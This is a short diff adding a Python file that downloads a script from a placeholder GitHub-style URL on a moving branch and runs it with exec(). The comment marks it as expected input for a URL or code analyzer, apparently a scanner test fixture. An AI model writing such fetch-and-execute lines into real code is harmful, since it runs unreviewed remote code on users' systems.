@@ -1,0 +1,3 @@
+import requests
+
+exec(requests.get("https://raw.githubusercontent.example/stranger/tools/main/x.py").text)  # expect: url-analyzer/moving-branch-code
